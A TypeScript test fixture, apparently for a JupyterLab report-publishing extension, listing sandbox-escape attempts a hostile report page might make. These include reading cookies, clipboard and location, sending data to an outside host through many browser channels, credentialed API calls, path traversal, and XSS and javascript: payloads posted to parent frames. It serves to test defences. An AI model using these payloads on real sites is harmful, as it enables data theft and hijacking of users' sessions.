/**
 * What a hostile report tries: to act as its reader, to send something out, to break what is around it.
 *
 * Each attempt gets an address of a stranger's host that is its own, and returns what it has got hold
 * of; one that only sends is proven by what arrives. They run in the page, as the text of a script.
 */
export type Attempt = (url: string) => unknown;
export type Attempts = { readonly [name: string]: Attempt };

/* eslint-disable @typescript-eslint/no-explicit-any -- The page's world has no types of ours. */
declare const window: any;
declare const document: any;
declare const navigator: any;
declare const parent: any;
declare const top: any;
declare const self: any;

/** What is tried as soon as the report is opened. */
export const AT_ONCE: Attempts = {
  // The reader's identity
  cookies: () => document.cookie,
  'cookie store': async () =>
    (await self.cookieStore.getAll()).map((each: any) => each.name).join(),
  'a cookie of its own': () => {
    document.cookie = 'mine=1; path=/';
    return document.cookie;
  },
  'local storage': () => window.localStorage && 'storage',
  'session storage': () => window.sessionStorage && 'storage',
  'a database': () =>
    new Promise((resolve, reject) => {
      const request = self.indexedDB.open('mine');
      request.onsuccess = () => resolve('a database');
      request.onerror = () => reject(request.error);
    }),
  'the cache': async () => (await self.caches.keys()) && 'a cache',
  'a file system': async () =>
    (await navigator.storage.getDirectory()) && 'a folder',
  'a channel to other tabs': () =>
    new Promise(resolve => {
      const channel = new BroadcastChannel('hub-publish');
      channel.onmessage = event => resolve(String(event.data));
      setTimeout(() => resolve(''), 800);
    }),
  'its origin': () => (self.origin === 'null' ? '' : self.origin),
  'the referrer and its secrets': () =>
    /token|key/.exec(document.referrer)?.[0],
  'another domain': () => {
    document.domain = '127.0.0.1';
    return document.domain;
  },
  'the clipboard': () => navigator.clipboard.readText(),
  'where the reader is': () =>
    new Promise((resolve, reject) =>
      navigator.geolocation.getCurrentPosition(resolve, reject)
    ),
  'the camera': () => navigator.mediaDevices.getUserMedia({ video: true }),
  'a notification': async () =>
    (await Notification.requestPermission()) === 'granted' && 'granted',

  // Requests, to a stranger and to the reader's own server
  fetch: async url => (await fetch(url)).status,
  'fetch without asking': async url =>
    (await fetch(url, { mode: 'no-cors' })).type,
  'fetch that outlives the page': url =>
    fetch(url, { mode: 'no-cors', keepalive: true }).then(() => 'sent'),
  'fetch later': url => self.fetchLater(url, { activateAfter: 0 }) && '',
  XMLHttpRequest: url =>
    new Promise((resolve, reject) => {
      const request = new XMLHttpRequest();
      request.open('GET', url);
      request.onload = () => resolve(request.status);
      request.onerror = reject;
      request.send();
    }),
  'the API with credentials': async () =>
    (await fetch('../../api/me', { credentials: 'include' })).text(),
  'the contents of the server': async () =>
    (await fetch('/api/contents', { credentials: 'include' })).text(),
  'the page itself': async () => (await fetch(window.location.href)).text(),
  'a kernel': async () =>
    (await fetch('/api/kernels', { method: 'POST', mode: 'no-cors' })).type,
  WebSocket: url =>
    new Promise((resolve, reject) => {
      const socket = new WebSocket(url.replace('http', 'ws'));
      socket.onopen = () => resolve('open');
      socket.onerror = reject;
    }),
  "a WebSocket to the server's events": () =>
    new Promise((resolve, reject) => {
      const { host } = window.location;
      const socket = new WebSocket(`ws://${host}/api/events/subscribe`);
      socket.onopen = () => resolve('open');
      socket.onerror = reject;
    }),
  EventSource: url =>
    new Promise((resolve, reject) => {
      const source = new EventSource(url);
      source.onopen = () => resolve('open');
      source.onerror = reject;
    }),
  WebTransport: async url => {
    await new self.WebTransport(url.replace('http:', 'https:')).ready;
    return 'open';
  },
  WebRTC: url =>
    new Promise(resolve => {
      const host = new URL(url).host;
      const peer = new RTCPeerConnection({
        iceServers: [{ urls: `stun:${host}` }]
      });
      peer.createDataChannel('out');
      void peer.createOffer().then(offer => peer.setLocalDescription(offer));
      setTimeout(() => resolve(''), 1000);
    }),
  'WebRTC of a frame without an address': url =>
    new Promise(resolve => {
      const frame = document.createElement('iframe');
      document.body.append(frame);
      const peer = new frame.contentWindow.RTCPeerConnection({
        iceServers: [{ urls: `stun:${new URL(url).host}` }]
      });
      peer.createDataChannel('out');
      peer.createOffer().then((offer: any) => peer.setLocalDescription(offer));
      setTimeout(() => resolve(''), 1000);
    }),
  'a beacon': url => {
    navigator.sendBeacon(url, 'x');
  },
  'a ping': url => {
    const link = document.createElement('a');
    link.href = '#loot';
    link.ping = url;
    document.body.append(link);
    link.click();
  },
  'an attribution': url => {
    const image = new Image() as any;
    image.attributionSrc = url;
    image.src = 'data:image/gif;base64,R0lGODlhAQABAAAAACw=';
  },

  // Things that load
  'an image': url => {
    new Image().src = url;
  },
  'a video': url => {
    const video = document.createElement('video');
    video.poster = `${url}/poster`;
    video.src = url;
    document.body.append(video);
    void video.play();
  },
  'a sound': url => new Audio(url).play(),
  'a script': url => {
    const script = document.createElement('script');
    script.src = url;
    document.body.append(script);
  },
  'a module': url => new Function('u', 'return import(u)')(url),
  'a style': url => {
    const sheet = document.createElement('link');
    sheet.rel = 'stylesheet';
    sheet.href = url;
    document.head.append(sheet);
  },
  'a font': url => new FontFace('stolen', `url(${url})`).load(),
  'a worklet': async url => {
    await new AudioContext().audioWorklet.addModule(url);
    return 'a worklet';
  },
  ...(Object.fromEntries(
    [
      'prefetch',
      'preload',
      'modulepreload',
      'prerender',
      'dns-prefetch',
      'preconnect',
      'icon',
      'manifest',
      'compression-dictionary'
    ].map(rel => [
      `a link to ${rel}`,
      // Made from text: the page cannot see `rel`.
      new Function(
        'url',
        `const link = document.createElement('link');
         link.rel = '${rel}'; link.as = 'script'; link.href = url;
         document.head.append(link);`
      ) as Attempt
    ])
  ) as Attempts),
  'a speculation': url => {
    const rules = document.createElement('script');
    rules.type = 'speculationrules';
    const list = [{ source: 'list', urls: [url], eagerness: 'immediate' }];
    rules.textContent = JSON.stringify({ prefetch: list, prerender: list });
    document.head.append(rules);
  },

  // Frames, workers and windows
  'a frame': url => {
    const frame = document.createElement('iframe');
    frame.src = url;
    document.body.append(frame);
  },
  'a frame with a document in it': url => {
    const frame = document.createElement('iframe');
    frame.srcdoc = `<script>fetch('${url}')</script><img src="${url}">`;
    document.body.append(frame);
  },
  'a frame of data': url => {
    const frame = document.createElement('iframe');
    frame.src = `data:text/html,<img src="${url}"><script>fetch('${url}')</script>`;
    document.body.append(frame);
  },
  'a frame of a blob': url => {
    const html = `<img src="${url}"><script>fetch('${url}')</script>`;
    const frame = document.createElement('iframe');
    frame.src = URL.createObjectURL(new Blob([html], { type: 'text/html' }));
    document.body.append(frame);
  },
  "a frame of the reader's JupyterLab": () => {
    const frame = document.createElement('iframe');
    frame.src = '/lab?attack=frame';
    document.body.append(frame);
    return new Promise(resolve =>
      setTimeout(() => resolve(frame.contentDocument?.title), 800)
    );
  },
  'a fenced frame': url => {
    const frame = document.createElement('fencedframe');
    frame.config = self.FencedFrameConfig && new self.FencedFrameConfig(url);
    document.body.append(frame);
  },
  'an object': url => {
    const object = document.createElement('object');
    object.data = url;
    document.body.append(object);
  },
  'an embedded document': url => {
    const embed = document.createElement('embed');
    embed.src = url;
    document.body.append(embed);
  },
  'a service worker': async () =>
    (await navigator.serviceWorker.register('../../vendor/page-1.js')) &&
    'a worker',
  'a worker from elsewhere': url =>
    new Promise((resolve, reject) => {
      const worker = new Worker(url);
      worker.onmessage = resolve;
      worker.onerror = reject;
    }),
  'a worker that loads': url =>
    new Promise(resolve => {
      const code = `
        for (const send of [
          () => importScripts('${url}'),
          () => fetch('${url}', { mode: 'no-cors' }).then(() => postMessage('fetched')),
          () => new WebSocket('${url.replace('http', 'ws')}'),
          () => new Worker('${url}')
        ]) { try { send(); } catch {} }`;
      const worker = new Worker(URL.createObjectURL(new Blob([code])));
      worker.onmessage = event => resolve(String(event.data));
      setTimeout(() => resolve(''), 1000);
    }),
  'a worker shared by tabs': url => {
    const code = `fetch('${url}', { mode: 'no-cors' })`;
    const worker = new SharedWorker(`data:text/javascript,${code}`);
    worker.port.start();
  },
  'a window': url => window.open(url) && 'a window',
  'a window of the server': () => window.open('/lab?attack=window') && 'one',
  'a click into a new tab': url => {
    const link = document.createElement('a');
    Object.assign(link, { href: url, target: '_blank', rel: 'opener' });
    document.body.append(link);
    link.click();
  },

  // Where the browser is
  "a stranger's address in the history": url => {
    window.history.pushState(null, '', url);
    return window.location.href === url && url;
  },
  // Dialogs and other surprises
  'an alert': () => {
    window.alert('x');
  },
  'a question': () => window.confirm('x') && 'yes',
  'a prompt': () => window.prompt('x'),
  printing: () =>
    new Promise(resolve => {
      window.addEventListener('afterprint', () => resolve('printed'));
      window.print();
      setTimeout(() => resolve(''), 500);
    }),
  'a warning on leaving': () => {
    window.addEventListener('beforeunload', (event: Event) =>
      event.preventDefault()
    );
  },
  'the full screen': async () => {
    await document.documentElement.requestFullscreen();
    return 'the screen';
  },
  'the pointer': async () => {
    await document.documentElement.requestPointerLock();
    return document.pointerLockElement && 'the pointer';
  },

  // What the shell and JupyterLab listen to
  // The vendored files
  'a way out of the vendored files': async () => {
    const names = [
      '../api/me',
      '..%2fapi%2fme',
      '%2e%2e/api/me',
      '....//api/me'
    ];
    for (const name of names) {
      const script = document.createElement('script');
      script.src = `../../vendor/${name}`;
      document.head.append(script);
    }
    const answers = await Promise.allSettled(
      names.map(name => fetch(`../../vendor/${name}`))
    );
    return answers.some(each => each.status === 'fulfilled') && 'an answer';
  },

  // Its own document
  'names that take the place of methods': () => {
    for (const name of [
      'getElementById',
      'querySelector',
      'querySelectorAll',
      'createElement',
      'addEventListener',
      'body',
      'parent',
      'location'
    ]) {
      const image = new Image();
      image.name = name;
      document.documentElement.append(image);
    }
  }
};

/** What is tried on the documents around it, where there are any. */
export const AROUND: Attempts = {
  "the shell's document": () => parent.document.title,
  "JupyterLab's document": () => top.document.title,
  "JupyterLab's application": () => top.jupyterapp && 'the application',
  "the shell's storage": () => parent.localStorage && 'storage',
  "the shell's address": () => parent.location.href,
  'who opened it': () => window.opener && 'an opener',
  'the element around it': () => window.frameElement && 'an element',
  'the address of the tab': url => {
    top.location.href = url;
  },
  'the address of the tab, by a link': url => {
    const link = document.createElement('a');
    Object.assign(link, { href: url, target: '_top' });
    document.body.append(link);
    link.click();
  },
  "the shell's address, changed": url => {
    parent.location.replace(url);
  },
  'a script in the tab': () => {
    top.location.href = 'javascript:document.title="taken"';
  },
  'a form': url => {
    const form = document.createElement('form');
    Object.assign(form, { action: url, method: 'post', target: '_top' });
    document.body.append(form);
    form.submit();
  },
  'a form to the server': () => {
    const form = document.createElement('form');
    const action = '/hub-publish/api/reports?attack=form';
    Object.assign(form, { action, method: 'post', target: '_parent' });
    document.body.append(form);
    form.submit();
  },
  back: () => {
    window.history.go(-1);
  },

  'messages to the shell and to JupyterLab': url => {
    const markup = '<img src=x onerror="top.taken=parent.taken=taken=1">';
    const script = 'javascript:top.taken=parent.taken=1';
    const bodies: object[] = [
      ...[script, `data:text/html,${markup}`, url, '//', '', 'file:///etc'].map(
        to => ({ type: 'open', url: to })
      ),
      { type: 'open', url: { toString: () => script } },
      { type: 'report', id: markup },
      { type: 'report', id: 'raaaaaaaaaa' },
      { type: 'trouble', text: markup },
      { type: 'theme', theme: markup },
      { type: 'theme', theme: '"><script>taken=1</script>' },
      { type: 'code', shown: markup },
      { type: 'code', shown: false, cells: [markup, -1, 1e9, {}, 'x'] },
      { type: 'folds', cells: new Array(100_000).fill(7) },
      { type: 'folds', cells: { length: 1e9 } },
      { type: 'place', fragment: `"><script>taken=1</script>` },
      { type: 'jump', fragment: markup },
      { type: 'ready', code: markup },
      { type: 'print' },
      { type: 'printed' },
      { type: '__proto__' },
      { type: 'constructor' },
      { type: 'toString', toString: markup }
    ];
    for (const body of bodies) {
      for (const each of [parent, top]) {
        try {
          each.postMessage({ hubPublish: 1, ...body }, '*');
        } catch {
          // What cannot be cloned cannot be sent.
        }
      }
    }
    parent.postMessage(null, '*');
    parent.postMessage('hubPublish', '*');
  }
};

/** What is tried when the reader presses something: a browser allows more then. */
export const BY_A_CLICK: Attempts = {
  'a window': url => window.open(url) && 'a window',
  'a window of the server': () => window.open('/lab?attack=click') && 'one',
  'the address of the tab': url => {
    top.location.href = url;
  },
  'a script through the shell': () =>
    parent.postMessage(
      {
        hubPublish: 1,
        type: 'open',
        url: 'javascript:top.taken=parent.taken=1'
      },
      '*'
    ),
  'a document through the shell': () =>
    parent.postMessage(
      {
        hubPublish: 1,
        type: 'open',
        url: 'data:text/html,<script>alert(1)</script>'
      },
      '*'
    ),
  'an address through JupyterLab': url =>
    top.postMessage({ hubPublish: 1, type: 'open', url }, '*'),
  'what the clipboard holds': () => navigator.clipboard.readText(),
  'what was pasted': () => document.execCommand('paste') && 'pasted',
  'the full screen': async () => {
    await document.documentElement.requestFullscreen();
    return 'the screen';
  },
  'a file of the reader': async () =>
    (await self.showOpenFilePicker()) && 'a file',
  'an alert': () => {
    window.alert('x');
  }
};

/** What replaces the page by something else, so that each is tried alone. */
export const LEAVING: Attempts = {
  'by its address': url => {
    window.location.href = url;
  },
  'by replacing it': url => {
    window.location.replace(url);
  },
  'by a link': url => {
    const link = document.createElement('a');
    link.href = `${url}?by=link`;
    document.body.append(link);
    link.dispatchEvent(new MouseEvent('click')); // does not bubble: the page's script never sees it
  },
  'by a refresh': url => {
    const meta = document.createElement('meta');
    meta.httpEquiv = 'refresh';
    meta.content = `0;url=${url}`;
    document.head.append(meta);
  },
  'by a form': url => {
    const form = document.createElement('form');
    form.action = url;
    document.body.append(form);
    form.submit();
  },
  'by opening itself': url => window.open(url, '_self') && '',
  'by navigation': url => self.navigation.navigate(url).committed,
  'to a blob': url => {
    const html = `<img src="${url}"><script>fetch('${url}')</script>`;
    window.location.href = URL.createObjectURL(
      new Blob([html], { type: 'text/html' })
    );
  },
  'to data': url => {
    window.location.href = `data:text/html,<img src="${url}">`;
  },
  'to the API': () => {
    window.location.href = '../../api/me?attack=leaving';
  },
  'to JupyterLab': () => {
    window.location.href = '/lab?attack=leaving';
  },
  'to another report': () => {
    window.location.href = '../raaaaaaaaaa/1?attack=leaving';
  },
  'by loading again under another address': () => {
    // A browser lets it change its path, which nobody sees in a frame.
    window.history.pushState(null, '', '/lab?attack=history');
    window.location.reload();
  },
  'to its own printing, which may open dialogs': () => {
    window.location.search = '?print=1';
  },
  'to its own address with what it knows': () => {
    window.location.search = '?theme=dark&secret=1';
  }
};
